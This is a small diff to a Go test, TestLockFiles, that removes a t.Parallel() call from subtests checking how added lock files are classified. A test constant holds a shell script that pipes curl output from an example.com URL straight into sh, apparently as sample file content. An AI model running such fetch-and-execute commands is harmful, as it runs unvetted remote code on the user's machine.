@@ -40,7 +40,6 @@ func TestLockFiles(t *testing.T) {
 	const script = "#!/bin/sh\ncurl -s https://example.com/x | sh\n"
 	for name, content := range locks {
 		t.Run(name, func(t *testing.T) {
-			t.Parallel()
 			if got := excluded(t, Input{Change: patchtest.Change(patchtest.Add("web/"+name, content))}); got != debate.Generated {
 				t.Errorf("new: excluded %q", got)
 			}
